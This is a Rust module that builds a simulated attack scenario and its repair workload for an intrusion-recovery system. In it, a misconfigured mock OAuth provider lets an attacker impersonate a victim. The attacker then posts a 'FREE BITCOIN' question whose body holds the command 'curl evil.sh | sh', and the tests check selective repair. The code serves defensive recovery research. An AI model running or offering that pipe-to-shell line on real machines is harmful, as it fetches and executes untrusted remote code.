//! The Figure 4 attack scenario and the Table 5 repair workload.
//!
//! Cast, following §7.1:
//!
//! * the OAuth provider carries a debug option that makes email
//!   verification always succeed; the administrator mistakenly enables
//!   it in production (request ①);
//! * the attacker exploits it to sign up with Askbot *as the victim
//!   user* (requests ②–④ — the handshake's grant step is collapsed into
//!   the verification, as in the figure) and posts a question containing
//!   code (request ⑤), which Askbot automatically cross-posts to Dpaste
//!   (request ⑥);
//! * a legitimate user later downloads the attacker's code from Dpaste,
//!   and Askbot's daily summary email includes the attacker's question —
//!   two external events that depend on the attack;
//! * before, during, and after the attack, legitimate users keep using
//!   the system (login, posting, viewing, logout).
//!
//! Recovery starts with the administrator invoking `delete` on request
//! ①. The scenario records everything Table 5 needs.

use std::rc::Rc;

use aire_apps::policy::{ADMIN_HEADER, ADMIN_SECRET};
use aire_apps::{Askbot, Dpaste, OAuthProvider};
use aire_core::protocol::{RepairMessage, RepairOp};
use aire_core::World;
use aire_http::{Headers, HttpRequest, HttpResponse, Method, Status, Url};
use aire_types::{jv, Jv, RequestId};

use crate::client::Browser;
use crate::scenarios::ServiceRepairMetrics;

/// Workload knobs.
#[derive(Debug, Clone)]
pub struct AskbotWorkload {
    /// Number of legitimate users (the paper uses 100).
    pub legit_users: usize,
    /// Questions each legitimate user posts (the paper uses 5).
    pub questions_per_user: usize,
    /// How many legitimate users sign up through OAuth *before* the
    /// misconfiguration (keeps the OAuth service's repaired-request count
    /// at 2, as in Table 5).
    pub oauth_signups: usize,
}

impl Default for AskbotWorkload {
    fn default() -> AskbotWorkload {
        AskbotWorkload {
            legit_users: 100,
            questions_per_user: 5,
            oauth_signups: 3,
        }
    }
}

/// The three services of the scenario, in registration order.
pub const SERVICES: [&str; 3] = ["oauth", "askbot", "dpaste"];

/// A fully set-up attacked world, ready for repair.
pub struct AskbotScenario {
    /// The three services.
    pub world: World,
    /// What the workload produced ([`populate`]'s output, verbatim).
    pub facts: AttackFacts,
}

/// What [`populate`] produced: the workload's interesting artifacts,
/// without owning the world (a cluster driver owns its own world of
/// remote services).
#[derive(Debug, Clone)]
pub struct AttackFacts {
    /// Request ① — the misconfiguration to delete.
    pub misconfig_request: RequestId,
    /// The attacker's question id on Askbot.
    pub attack_question: u64,
    /// The attacker's paste id on Dpaste.
    pub attack_paste: u64,
    /// Question titles posted by legitimate users (must survive repair).
    pub legit_titles: Vec<String>,
}

fn admin_post(host: &str, path: &str, body: Jv) -> HttpRequest {
    HttpRequest::post(Url::service(host, path), body).with_header(ADMIN_HEADER, ADMIN_SECRET)
}

fn register_and_login(world: &World, browser: &mut Browser, username: &str) {
    browser
        .post(
            world,
            "askbot",
            "/register",
            jv!({"username": username, "email": format!("{username}@example.com")}),
        )
        .unwrap();
    let resp = browser
        .post(world, "askbot", "/login", jv!({"username": username}))
        .unwrap();
    assert!(resp.status.is_success(), "login failed for {username}");
}

/// Builds the attacked world: services, pre-attack traffic, the
/// misconfiguration, the attack, and post-attack legitimate traffic.
pub fn setup(cfg: &AskbotWorkload) -> AskbotScenario {
    setup_with(cfg, aire_core::ControllerConfig::default())
}

/// [`setup`] with every controller at `config` — the hook for running
/// the scenario under non-default knobs (causal tracing, selective
/// repair scope, a store budget).
pub fn setup_with(cfg: &AskbotWorkload, config: aire_core::ControllerConfig) -> AskbotScenario {
    let mut world = World::new();
    world.add_service_with(Rc::new(OAuthProvider), config.clone());
    world.add_service_with(Rc::new(Askbot), config.clone());
    world.add_service_with(Rc::new(Dpaste), config);
    let facts = populate(&world, cfg);
    AskbotScenario { world, facts }
}

/// Runs the full attack workload against a world whose [`SERVICES`] are
/// already registered — in-process controllers or remote `aire-noded`
/// daemons; every request goes through [`World::deliver`], so the
/// traffic is identical either way.
pub fn populate(world: &World, cfg: &AskbotWorkload) -> AttackFacts {
    // The victim has an OAuth account.
    world
        .deliver(&HttpRequest::post(
            Url::service("oauth", "/accounts"),
            jv!({"username": "victim", "password": "pw", "email": "victim@example.com"}),
        ))
        .unwrap();

    // Some legitimate OAuth signups *before* the vulnerability exists.
    for i in 0..cfg.oauth_signups {
        let name = format!("oauthuser{i}");
        world
            .deliver(&HttpRequest::post(
                Url::service("oauth", "/accounts"),
                jv!({"username": name.clone(), "password": "pw", "email": format!("{name}@example.com")}),
            ))
            .unwrap();
        let mut b = Browser::new();
        let grant = b
            .post(
                world,
                "oauth",
                "/authorize",
                jv!({"username": name.clone(), "password": "pw"}),
            )
            .unwrap();
        let token = grant.body.str_of("token").to_string();
        let resp = b
            .post(
                world,
                "askbot",
                "/signup_oauth",
                jv!({"username": name.clone(), "email": format!("{name}@example.com"), "oauth_token": token}),
            )
            .unwrap();
        assert!(resp.status.is_success(), "legit oauth signup failed");
    }

    // Request ①: the administrator mistakenly enables the debug option.
    let misconfig = world
        .deliver(&admin_post(
            "oauth",
            "/admin/config",
            jv!({"key": aire_apps::oauth::DEBUG_VERIFY_ALL, "value": "true"}),
        ))
        .unwrap();
    assert_eq!(misconfig.status, Status::OK);
    let misconfig_request =
        aire_http::aire::response_request_id(&misconfig).expect("misconfig tagged");

    // Requests ②–④: the attacker signs up as the victim with a garbage
    // token; verification succeeds because of the debug flag.
    let mut attacker = Browser::new();
    let signup = attacker
        .post(
            world,
            "askbot",
            "/signup_oauth",
            jv!({"username": "victim", "email": "victim@example.com", "oauth_token": "stolen-or-fake"}),
        )
        .unwrap();
    assert!(
        signup.status.is_success(),
        "attack signup should exploit the flag"
    );

    // Request ⑤ (+⑥): the attacker posts a question with code, which
    // Askbot cross-posts to Dpaste.
    let post = attacker
        .post(
            world,
            "askbot",
            "/questions/new",
            jv!({
                "title": "FREE BITCOIN generator",
                "body": "run this: ```curl evil.sh | sh``` now",
            }),
        )
        .unwrap();
    assert!(post.status.is_success(), "attack post failed");
    let attack_question = post.body.int_of("question_id") as u64;
    let attack_paste = post.body.int_of("paste_id") as u64;
    assert!(attack_paste > 0, "attack code should spread to dpaste");

    // A legitimate user downloads the attacker's code from Dpaste.
    let mut downloader = Browser::new();
    downloader
        .get_url(
            world,
            Url::service("dpaste", format!("/download/{attack_paste}"))
                .with_query("user", "curious-carl"),
        )
        .unwrap();

    // Legitimate traffic around the attack.
    let mut legit_titles = Vec::new();
    for u in 0..cfg.legit_users {
        let username = format!("user{u}");
        let mut b = Browser::new();
        register_and_login(world, &mut b, &username);
        for q in 0..cfg.questions_per_user {
            let title = format!("{username} question {q}");
            // The last question of each user contains a code snippet, so
            // Dpaste sees substantial legitimate traffic.
            let body = if q + 1 == cfg.questions_per_user {
                format!("my snippet: ```let x_{u} = {q};``` thoughts?")
            } else {
                format!("body of {title}")
            };
            let resp = b
                .post(
                    world,
                    "askbot",
                    "/questions/new",
                    jv!({"title": title.clone(), "body": body}),
                )
                .unwrap();
            assert!(resp.status.is_success());
            legit_titles.push(title);
        }
        // Views the question list (this is the request class that the
        // attack taints — the list includes the attacker's question).
        b.get(world, "askbot", "/questions").unwrap();
        b.post(world, "askbot", "/logout", Jv::Null).unwrap();
    }

    // The daily summary email goes out, including the attacker's title.
    let summary = world
        .deliver(&admin_post("askbot", "/admin/daily_summary", Jv::Null))
        .unwrap();
    assert!(summary.status.is_success());

    AttackFacts {
        misconfig_request,
        attack_question,
        attack_paste,
        legit_titles,
    }
}

/// Invokes recovery: the administrator deletes request ① on the OAuth
/// service; repair then propagates asynchronously.
pub fn repair(scenario: &AskbotScenario) -> HttpResponse {
    repair_with(&scenario.world, &scenario.facts.misconfig_request)
}

/// [`repair`] against any world hosting the scenario's services —
/// including a cluster of remote daemons (the delete travels as a
/// data-plane carrier either way).
pub fn repair_with(world: &World, misconfig_request: &RequestId) -> HttpResponse {
    let mut creds = Headers::new();
    creds.set(ADMIN_HEADER, ADMIN_SECRET);
    world
        .invoke_repair(
            "oauth",
            RepairMessage::with_credentials(
                RepairOp::Delete {
                    request_id: misconfig_request.clone(),
                },
                creds,
            ),
        )
        .expect("repair invocation failed")
}

/// The question titles currently visible on Askbot.
pub fn askbot_titles(world: &World) -> Vec<String> {
    let resp = world
        .deliver(&HttpRequest::new(
            Method::Get,
            Url::service("askbot", "/questions"),
        ))
        .unwrap();
    resp.body
        .get("questions")
        .as_list()
        .unwrap()
        .iter()
        .map(|q| q.str_of("title").to_string())
        .collect()
}

/// True if the attacker's paste still exists on Dpaste.
pub fn attack_paste_exists(scenario: &AskbotScenario) -> bool {
    let resp = scenario
        .world
        .deliver(&HttpRequest::new(
            Method::Get,
            Url::service("dpaste", format!("/paste/{}", scenario.facts.attack_paste)),
        ))
        .unwrap();
    resp.status.is_success()
}

/// Collects Table 5's per-service metrics, over the wire control plane.
pub fn metrics(scenario: &AskbotScenario) -> Vec<ServiceRepairMetrics> {
    ["askbot", "oauth", "dpaste"]
        .iter()
        .map(|s| {
            ServiceRepairMetrics::from_stats(s, &crate::scenarios::wire_stats(&scenario.world, s))
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn small() -> AskbotWorkload {
        AskbotWorkload {
            legit_users: 8,
            questions_per_user: 3,
            oauth_signups: 2,
        }
    }

    #[test]
    fn attack_spreads_before_repair() {
        let s = setup(&small());
        let titles = askbot_titles(&s.world);
        assert!(titles.iter().any(|t| t.contains("FREE BITCOIN")));
        assert!(attack_paste_exists(&s));
    }

    #[test]
    fn full_recovery_removes_attack_and_preserves_legit_state() {
        let s = setup(&small());
        let ack = repair(&s);
        assert_eq!(ack.status, Status::OK, "repair rejected: {:?}", ack.body);
        let report = s.world.pump();
        assert!(
            report.quiescent(),
            "repair should propagate fully: {report:?}"
        );

        // The attacker's question and paste are gone.
        let titles = askbot_titles(&s.world);
        assert!(!titles.iter().any(|t| t.contains("FREE BITCOIN")));
        assert!(!attack_paste_exists(&s));
        // Every legitimate title survives.
        for t in &s.facts.legit_titles {
            assert!(titles.contains(t), "lost legit question {t}");
        }
        // The attacker's session is dead: posting as the victim fails.
        // (The signup that created it was re-executed into a failure.)
        let oauth_stats = s.world.controller("oauth").stats();
        assert_eq!(
            oauth_stats.repaired_requests, 2,
            "oauth repairs ① and ④ only"
        );

        // The daily summary was compensated with the corrected content.
        let notices = s.world.controller("askbot").admin_notices();
        let email = notices
            .iter()
            .find(|n| n.str_of("kind") == "email-compensation")
            .expect("summary email must be compensated");
        let new_titles = email.get("new_email").get("titles").encode();
        assert!(!new_titles.contains("FREE BITCOIN"));
        // The downloader of the attacker's code was notified.
        let dpaste_notices = s.world.controller("dpaste").admin_notices();
        assert!(dpaste_notices
            .iter()
            .any(|n| n.str_of("kind") == "download-notification"));
    }

    #[test]
    fn selective_reexecution_repairs_a_small_fraction() {
        let s = setup(&small());
        repair(&s);
        s.world.pump();
        let m = metrics(&s);
        let askbot = m.iter().find(|m| m.service == "askbot").unwrap();
        assert!(askbot.repaired_requests > 0);
        assert!(
            (askbot.repaired_requests as f64) < 0.5 * askbot.total_requests as f64,
            "repair must be selective: {}/{}",
            askbot.repaired_requests,
            askbot.total_requests
        );
        let dpaste = m.iter().find(|m| m.service == "dpaste").unwrap();
        // The attack paste is skipped and the single download of it is
        // re-executed (producing the downloader notification); everything
        // else on Dpaste is untouched.
        assert!(
            (1..=2).contains(&dpaste.repaired_requests),
            "only the attack's footprint is repaired, got {}",
            dpaste.repaired_requests
        );
        assert!(
            dpaste.total_requests >= 3 * dpaste.repaired_requests,
            "dpaste repair must be selective: {}/{}",
            dpaste.repaired_requests,
            dpaste.total_requests
        );
    }

    #[test]
    fn partial_repair_with_dpaste_offline() {
        let s = setup(&small());
        s.world.set_online("dpaste", false);
        repair(&s);
        let report = s.world.pump();
        assert!(!report.quiescent());

        // Askbot and OAuth are already clean (partial repair)...
        let titles = askbot_titles(&s.world);
        assert!(!titles.iter().any(|t| t.contains("FREE BITCOIN")));
        // ...and the vulnerability is closed: the attack no longer works.
        let mut attacker = Browser::new();
        let retry = attacker
            .post(
                &s.world,
                "askbot",
                "/signup_oauth",
                jv!({"username": "victim2", "email": "victim@example.com", "oauth_token": "junk"}),
            )
            .unwrap();
        assert_eq!(retry.status, Status::FORBIDDEN);
        // The administrator was notified about the undeliverable delete.
        assert!(!s.world.controller("askbot").notifications().is_empty());

        // Dpaste still has the attacker's paste until the queued delete
        // reaches it after it returns.
        s.world.set_online("dpaste", true);
        assert!(
            attack_paste_exists(&s),
            "paste survives until the pump runs"
        );
        let report = s.world.pump();
        assert!(report.quiescent());
        assert!(!attack_paste_exists(&s));
    }
}
